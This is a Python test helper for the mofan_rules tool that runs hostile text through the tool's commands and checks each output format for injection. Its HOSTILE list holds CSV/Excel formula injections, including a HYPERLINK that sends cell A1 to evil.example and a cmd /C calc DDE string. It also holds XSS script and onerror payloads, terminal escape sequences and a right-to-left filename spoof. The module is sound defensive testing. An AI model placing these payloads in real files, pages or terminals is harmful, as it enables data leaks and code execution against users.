"""Hostile text for the outputs, and the oracles that parse every output back.

Shared by ``tests/test_outputs_inert.py`` (fixed hostile texts through every
command) and the ``outputs`` fuzz target (random hostile texts, random
commands). The oracles are written here, independently of the package's own
escaping in ``mofan_rules._text``: what they reject is stated from what a
spreadsheet, a Markdown renderer, a browser and a terminal do, not from how
the package escapes.

* :func:`check_terminal`: no control character a terminal obeys (ESC, OSC,
  C1, bidirectional controls), strict UTF-8;
* :func:`check_csv`, :func:`check_xlsx`: no formula cell, no cell that reads
  as one, no character the file cannot hold, no ``<f>`` element in a sheet's
  XML, every data validation a list;
* :func:`markdown_shape`, :func:`check_tables`: Markdown structure compared
  line by line with the same output made from plain text; every table row
  has its table's cells;
* :func:`html_tags`: the same tags as the page made from plain text;
* :func:`check_json`: valid JSON holding the text exactly as given.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import random
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from mofan_rules.source import parse_document

from .mutate import to_json

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "rulebooks" / "shifulian-2026.yaml"
EXAMPLES = sorted((ROOT / "examples").glob("*.yaml"))

# Text meant to do harm where it lands: a formula in every way a spreadsheet
# starts one, Markdown and HTML structure, and terminal control sequences.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    "a|b|c\n# heading\n- item\n1. one\n> quote\n---\n```\ncode\n```",
    "<script>alert(1)</script><img src=x onerror=alert(1)> [link](javascript:x) *em* _u_ ~s~ \\|",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J\x1b[31mred\x9b31m",
    "\u202egnp.exe \x07\x08\x0b\x0c\x7f\x85\u2028 tail",
    "|",
    "=",
]
# Pieces the fuzz target strings together, after a random formula start.
PIECES = [
    "|", "\n", "\r\n", "\r", "\t", "# ", "- ", "+ ", "1. ", "> ", "---", "===", "```", "    ",
    "<b>", "</td>", "<script>", "&lt;", "&#124;", "`", "[x](y)", "![i](j)", "*", "**", "_", "~~",
    "\\", "\\|", "\x1b[31m", "\x1b]8;;http://e\x07", "\x1b\\", "\x9b", "\x90", "\x85",
    "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\u061c", "\x07", "\x08", "\x0b", "\x0c",
    "\x7f", "\ufffe", "\uffff", "'", '"', ",", ";", "=", "+", "-", "@", "＝", "＋", "－", "＠",
    "中文", "😀", "\u200b", "\u3000", "%s", "{0}", "{x}", "<!--", "-->", "\\n",
]  # fmt: skip
STARTS = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    " =",
    "\u3000=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "#",
    "- ",
]

# An independent statement of what must never reach a terminal raw.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# What a spreadsheet reads as the start of a formula (OWASP, and full width for WPS).
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# Fields of a ledger and of a rulebook that hold free text (the others are
# keys, numbers, dates, or names of other parts).
LEDGER_TEXT = {"unit", "note", "evidence", "case", "deed"}
RULEBOOK_TEXT = {
    "title", "unit", "source_document", "source", "reading", "label", "name", "leaders",
    "assessing_departments", "responsible_offices", "note",
}  # fmt: skip


class OutputLeakError(AssertionError):
    """An output that would do harm where it lands."""


def hostile(n: int) -> str:
    """The n-th fixed hostile text; each unique (two offices must not merge), each starting its attack."""
    return f"{HOSTILE[n % len(HOSTILE)]} {n}"


def plain(n: int) -> str:
    """The plain twin of the n-th text."""
    return f"text {n}"


def random_texts(rng: random.Random) -> Callable[[int], str]:
    """Hostile texts strung from random pieces, each unique and under 150 characters.

    ``rng`` is drawn from once (a seed for the texts' own generator), so a
    test's draws do not depend on how many texts it asks for.
    """
    rng = random.Random(rng.getrandbits(64))
    cache: dict[int, str] = {}

    def text(n: int) -> str:
        if n not in cache:
            parts = [rng.choice(STARTS)]
            parts += rng.choices(PIECES, k=rng.randrange(1, 8))
            body = "".join(parts)[:140]
            cache[n] = f"{body} {n}" if rng.random() < 0.5 else f"{body}{n}"
        return cache[n]

    return text


# ---------------------------------------------------------------- inputs


def with_texts(data: Any, fields: set[str], make: Callable[[int], str]) -> Any:
    """``data`` with every text under one of ``fields`` replaced by ``make(n)``, n counting up."""
    count = 0

    def walk(node: Any, field: str | None) -> Any:
        nonlocal count
        if isinstance(node, dict):
            return {k: walk(v, k if isinstance(k, str) else field) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v, field) for v in node]
        if isinstance(node, str) and field in fields:
            count += 1
            return make(count)
        return node

    return walk(copy.deepcopy(data), None)


def ascii_json(text: str) -> str:
    """JSON with every character past ASCII written as its escape, as ``json.dumps`` does.

    A control character (C1, a bidirectional control) cannot be written raw
    in YAML or JSON that YAML reads; as an escape it reaches the value exactly.
    """

    def escape(match: re.Match[str]) -> str:
        units = match.group().encode("utf-16-be")
        return "".join(
            f"\\u{int.from_bytes(units[i : i + 2]):04x}" for i in range(0, len(units), 2)
        )

    return re.sub(r"[^\x00-\x7e]", escape, text)


def _ledger_data(example: Path) -> dict[str, Any]:
    """An example ledger with a text in every free-text field (so each can be replaced)."""
    data: dict[str, Any] = parse_document(example.read_bytes(), example.name).data
    for i, record in enumerate(data.get("records", [])):
        record.setdefault("evidence", "e")
        record.setdefault("note", "n")
        if i % 4 == 0:
            record["case"] = "c"
    data["unit"] = data.get("unit") or "u"
    data["note"] = "n"
    for award in data.get("awards", []):
        award.setdefault("evidence", "e")
        award.setdefault("deed", "d")
    return data


@dataclass(frozen=True)
class Inputs:
    """A rulebook, a ledger and a broken ledger with texts from ``text``, in ``folder``."""

    folder: Path
    rulebook: Path
    ledger: Path
    broken: Path
    text: Callable[[int], str]


def file_name(text: str) -> str:
    """A file name made of a text: what a file system takes of it (no slash, no NUL, one line)."""
    name = text.splitlines()[0] if text.splitlines() else text
    return name.replace("/", "∕").replace("\x00", "")[:40] or "x"


def make_inputs(folder: Path, text: Callable[[int], str], example: Path = EXAMPLES[-1]) -> Inputs:
    """Write the shipped rulebook and ``example`` with every free text replaced by ``text(n)``."""
    folder.mkdir(parents=True, exist_ok=True)
    rulebook_data = parse_document(SHIPPED.read_bytes(), SHIPPED.name).data
    rulebook = folder / "rulebook.yaml"
    rulebook.write_text(
        ascii_json(to_json(with_texts(rulebook_data, RULEBOOK_TEXT, text))), "ascii"
    )
    ledgers = folder / "in"
    ledgers.mkdir(exist_ok=True)
    ledger = ledgers / f"{file_name(text(1000))}.json"
    ledger_data = with_texts(_ledger_data(example), LEDGER_TEXT, text)
    ledger.write_text(ascii_json(to_json(ledger_data)), "ascii")
    broken = ledgers / f"{file_name(text(1001))}.yaml"
    situation = ascii_json(json.dumps(text(1002)))
    unit = ascii_json(json.dumps(text(1003)))
    broken.write_text(f"unit: {unit}\nrecords:\n  - {{item: 1, situation: {situation}}}\n", "ascii")
    return Inputs(folder, rulebook, ledger, broken, text)


# Every command that writes something people read, and the exit it must give.
COMMANDS: dict[str, tuple[list[str], int]] = {
    "score-table": (["score", "LEDGER", "-r", "RB", "--by", "office"], 0),
    "score-json": (["score", "LEDGER", "-r", "RB", "--format", "json", "--by", "leader"], 0),
    "score-md": (["score", "LEDGER", "-r", "RB", "--format", "md", "--by", "department"], 0),
    "score-csv": (["score", "LEDGER", "-r", "RB", "--format", "csv", "--by", "office"], 0),
    "score-html": (["score", "LEDGER", "-r", "RB", "--format", "html", "--by", "office"], 0),
    "score-md-file": (["score", "LEDGER", "-r", "RB", "--format", "md", "--out", "OUT.md"], 0),
    "score-csv-file": (["score", "LEDGER", "-r", "RB", "--format", "csv", "--out", "OUT.csv"], 0),
    "score-json-file": (
        ["score", "LEDGER", "-r", "RB", "--format", "json", "--out", "OUT.json"],
        0,
    ),
    "score-html-file": (
        ["score", "LEDGER", "-r", "RB", "--format", "html", "--out", "OUT.html"],
        0,
    ),
    "score-xlsx": (
        ["score", "LEDGER", "-r", "RB", "--format", "xlsx", "--by", "leader", "--out", "OUT.xlsx"],
        0,
    ),
    "score-broken": (["score", "BROKEN", "-r", "RB"], 1),
    "explain": (["explain", "LEDGER", "-r", "RB"], 0),
    "explain-zh": (["--lang", "zh", "explain", "LEDGER", "-r", "RB"], 0),
    "batch-csv": (["batch", "DIR", "-r", "RB", "--out", "OUT.csv"], 1),
    "batch-xlsx": (["batch", "DIR", "-r", "RB", "--by", "office", "--out", "OUT.xlsx"], 1),
    "batch-zh": (["--lang", "zh", "batch", "DIR", "-r", "RB", "--out", "OUT.xlsx"], 1),
    "template-xlsx": (["template", "-r", "RB", "--out", "OUT.xlsx"], 0),
    "template-csv": (["template", "-r", "RB", "--format", "csv", "--out", "OUT.csv"], 0),
    "render-md": (["render", "RB"], 0),
    "render-md-zh": (["--lang", "zh", "render", "RB"], 0),
    "render-html": (["render", "RB", "--format", "html"], 0),
    "validate": (["validate", "RB"], 0),
    "diff-text": (["diff", "SHIPPED", "RB"], 1),
    "diff-md": (["diff", "SHIPPED", "RB", "--format", "md"], 1),
    "diff-json": (["diff", "SHIPPED", "RB", "--format", "json"], 1),
}


def argv_for(inputs: Inputs, command: str, outputs: Path) -> list[str]:
    """The command line of ``command`` on ``inputs``, its files written to ``outputs``."""
    names = {
        "RB": str(inputs.rulebook),
        "LEDGER": str(inputs.ledger),
        "BROKEN": str(inputs.broken),
        "DIR": str(inputs.ledger.parent),
        "SHIPPED": str(SHIPPED),
    }
    return [
        str(outputs / a) if a.startswith("OUT.") else names.get(a, a) for a in COMMANDS[command][0]
    ]


# ---------------------------------------------------------------- oracles


def check_terminal(text: str, where: str) -> None:
    """Printed text: no raw control character, and strict UTF-8 (CSV's CRLF line ends allowed)."""
    found = RAW_CONTROL.search(text.replace("\r\n", "\n"))
    if found is not None:
        around = text[max(0, found.start() - 40) : found.end() + 40]
        raise OutputLeakError(f"{where}: raw {found.group()!r} in {around!r}")
    try:
        text.encode("utf-8")
    except UnicodeEncodeError as exc:
        raise OutputLeakError(f"{where}: not UTF-8: {exc}") from None


def check_cell(value: Any, where: str) -> None:
    """One spreadsheet cell: a number, or text that is no formula and holds nothing unsafe."""
    if value is None or isinstance(value, int | float | Decimal):
        return
    text = str(value)
    if RAW_CONTROL.search(text):
        raise OutputLeakError(f"{where}: a control character in {text!r}")
    if NUMBER.fullmatch(text):
        return  # a number written as such
    if text.lstrip(" \u3000").startswith(FORMULA):
        raise OutputLeakError(f"{where}: reads as a formula: {text!r}")


def check_csv(raw: bytes, where: str) -> int:
    """Every cell of a CSV file; the number of cells looked at."""
    text = raw.decode("utf-8-sig")
    cells = 0
    for r, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
        for c, value in enumerate(row):
            check_cell(value, f"{where} row {r + 1} column {c + 1}")
            cells += 1
    return cells


def check_xlsx(raw: bytes, where: str) -> int:
    """Every cell, formula and validation of a workbook; the number of cells looked at."""
    import openpyxl

    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        for name in book.namelist():
            is_sheet = name.startswith("xl/worksheets/") and name.endswith(".xml")
            if is_sheet and re.search(r"<f[ >]", book.read(name).decode("utf-8")):
                raise OutputLeakError(f"{where}: {name} holds a formula")
            if name.startswith("xl/externalLinks"):
                raise OutputLeakError(f"{where}: an external link")
    workbook = openpyxl.load_workbook(io.BytesIO(raw))
    if list(workbook.defined_names):
        raise OutputLeakError(f"{where}: defined names")
    cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    raise OutputLeakError(f"{where} {sheet.title}!{cell.coordinate}: a formula")
                check_cell(cell.value, f"{where} {sheet.title}!{cell.coordinate}")
                cells += 1
        for rule in sheet.data_validations.dataValidation:
            formula = rule.formula1 or ""
            # A list: inline and quoted, or the cells of the hidden _lists sheet.
            if not re.fullmatch(r'"[^"\n\t]*"|=_lists!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+', formula):
                raise OutputLeakError(f"{where} {sheet.title}: validation {formula!r}")
    return cells


_UNESCAPED = re.compile(r"(?<!\\)((?:\\\\)*)([|<>`\[\]*_~#])")
_BLOCK = re.compile(
    r"^(#{1,6} |\s*[-+*] |\s*\d{1,9}[.)] |>|\s{4,}\S|\s*(?:-{3,}|={3,}|\*{3,})\s*$|```)"
)


def markdown_shape(text: str) -> list[tuple[str, str]]:
    """Each line's Markdown structure: how it starts, and its unescaped special characters."""
    shape = []
    for line in text.split("\n"):
        start = _BLOCK.match(line)
        specials = "".join(m.group(2) for m in _UNESCAPED.finditer(line))
        shape.append((start.group(1).strip() if start else "", specials))
    return shape


def _table_rows(text: str) -> Iterator[tuple[int, int]]:
    for number, line in enumerate(text.split("\n"), start=1):
        if line.startswith("|"):
            pipes = sum(1 for m in _UNESCAPED.finditer(line) if m.group(2) == "|")
            yield number, pipes - 1


def check_tables(text: str, where: str) -> None:
    """Every row of a Markdown table has as many cells as the table's first row."""
    widths: dict[int, int] = {}
    previous = -1
    table = 0
    for number, cells in _table_rows(text):
        if number != previous + 1:
            table += 1
        previous = number
        if widths.setdefault(table, cells) != cells:
            raise OutputLeakError(f"{where}: line {number} has {cells} cells, not {widths[table]}")


def check_markdown(text: str, twin: str, where: str) -> None:
    """A Markdown output against the same output made from plain text."""
    check_tables(text, where)
    got, want = markdown_shape(text), markdown_shape(twin)
    if got != want:
        first = next(
            (i for i, (a, b) in enumerate(zip(got, want, strict=False)) if a != b),
            min(len(got), len(want)),
        )
        line = text.split("\n")[first] if first < len(got) else ""
        raise OutputLeakError(f"{where}: line {first + 1} is built differently: {line[:200]!r}")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))


def html_tags(text: str) -> Counter[tuple[str, tuple[str, ...]]]:
    """Every start tag of a page, with the names of its attributes, counted."""
    parser = _Tags()
    parser.feed(text)
    return Counter(parser.tags)


def check_html(text: str, twin: str, where: str) -> None:
    """A page has the tags of its plain twin, and no raw control character."""
    if html_tags(text) != html_tags(twin):
        extra = html_tags(text) - html_tags(twin)
        raise OutputLeakError(f"{where}: tags the plain page lacks: {dict(extra)}")
    check_terminal(text, where)


def check_json(text: str, unit: str | None, where: str) -> None:
    """Valid JSON; a report's unit is exactly the text the ledger gave."""
    try:
        data = json.loads(text)
    except ValueError as exc:
        raise OutputLeakError(f"{where}: not JSON: {exc}") from None
    reports = data if isinstance(data, list) else [data]
    if unit is not None and reports and "unit" in reports[0] and reports[0]["unit"] != unit:
        raise OutputLeakError(f"{where}: unit {reports[0]['unit']!r}, not {unit!r}")


# ------------------------------------------------------------ one command


@dataclass(frozen=True)
class Run:
    """What one command did: its exit code, what it printed, the files it wrote."""

    code: int
    out: str
    err: str
    files: dict[str, bytes]


def check_run(name: str, got: Run, twin: Run, inputs: Inputs) -> int:
    """Every output of one run against its plain twin; the number of things looked at."""
    check_terminal(got.out, f"{name} stdout")
    check_terminal(got.err, f"{name} stderr")
    for line in got.err.splitlines():  # each line names its file: no text broke a line in two
        if not line.lstrip().removeprefix("wrote ").startswith(str(inputs.folder)):
            raise OutputLeakError(f"{name}: a line of stderr names no file: {line[:200]!r}")
    if sorted(got.files) != sorted(twin.files):
        raise OutputLeakError(f"{name}: wrote {sorted(got.files)}, not {sorted(twin.files)}")
    unit = inputs.text(1)
    checked = 0
    for file, raw in got.files.items():
        where = f"{name} {file}"
        if file.endswith(".csv"):
            checked += check_csv(raw, where)
        elif file.endswith(".xlsx"):
            checked += check_xlsx(raw, where)
        elif file.endswith(".json"):
            check_json(raw.decode("utf-8"), unit, where)
        elif file.endswith(".md"):
            check_markdown(raw.decode("utf-8"), twin.files[file].decode("utf-8"), where)
        elif file.endswith(".html"):
            check_html(raw.decode("utf-8"), twin.files[file].decode("utf-8"), where)
        checked += 1
    printed = not got.files
    if printed and "csv" in name:
        checked += check_csv(got.out.encode("utf-8"), f"{name} stdout")
    if printed and "json" in name:
        check_json(got.out, unit, f"{name} stdout")
    if printed and "md" in name:
        check_markdown(got.out, twin.out, f"{name} stdout")
    if printed and "html" in name:
        check_html(got.out, twin.out, f"{name} stdout")
    return checked + len(got.out) + len(got.err)


__all__ = [
    "COMMANDS",
    "FORMULA",
    "HOSTILE",
    "RAW_CONTROL",
    "Inputs",
    "OutputLeakError",
    "Run",
    "argv_for",
    "ascii_json",
    "check_cell",
    "check_csv",
    "check_html",
    "check_json",
    "check_markdown",
    "check_run",
    "check_tables",
    "check_terminal",
    "check_xlsx",
    "hostile",
    "html_tags",
    "make_inputs",
    "markdown_shape",
    "plain",
    "random_texts",
    "with_texts",
]
